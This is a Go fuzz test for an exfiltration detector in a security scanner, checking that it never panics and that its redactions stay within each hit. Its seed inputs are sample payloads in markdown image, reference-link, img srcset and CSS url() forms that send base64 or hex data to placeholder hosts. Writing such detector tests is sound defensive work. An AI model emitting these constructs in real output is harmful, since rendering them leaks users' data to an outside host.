package exfil

import (
	"math/rand/v2"
	"testing"

	"github.com/rampartsec/rampart/detect"
	"github.com/rampartsec/rampart/detect/detecttest"
)

// FuzzDetect checks that the scanner never panics, that hits keep the
// streaming contract and that Replacement never grows a hit into more than
// its span.
func FuzzDetect(f *testing.F) {
	r := rand.New(rand.NewPCG(7, 7))
	for range 20 {
		f.Add(randomText(r))
	}
	f.Add("![a](<https://a.example/?d=" + b64 + "> \"t\")")
	f.Add("[r]: https://a.example/?d=" + b64 + "\n![x][r]")
	f.Add(`<img srcset="https://a.example/?d=` + b64 + ` 2x" style="background:url(//x.example/?d=` + hexd + `)">`)
	f.Add("\\\\![x](https://" + hexd + ".a.example/)")
	d := newDetector(f, map[string]any{"bare_urls": true})
	f.Fuzz(func(t *testing.T, text string) {
		cuts := []int{0, len(text) / 3, len(text) / 2, len(text) - 1, len(text)}
		if len(text) < 64 {
			cuts = detecttest.Cuts(text)
		}
		detecttest.Contract(t, d, text, cuts)
		for _, h := range detecttest.Detect(t, d, text) {
			if rep := Replacement(text, h); len(rep) > h.End-h.Start {
				t.Fatalf("replacement %q of %d-byte span %q is longer", rep, h.End-h.Start, text[h.Start:h.End])
			}
		}
		_ = Replacement(text, detect.Hit{Start: 0, End: len(text)})
	})
}
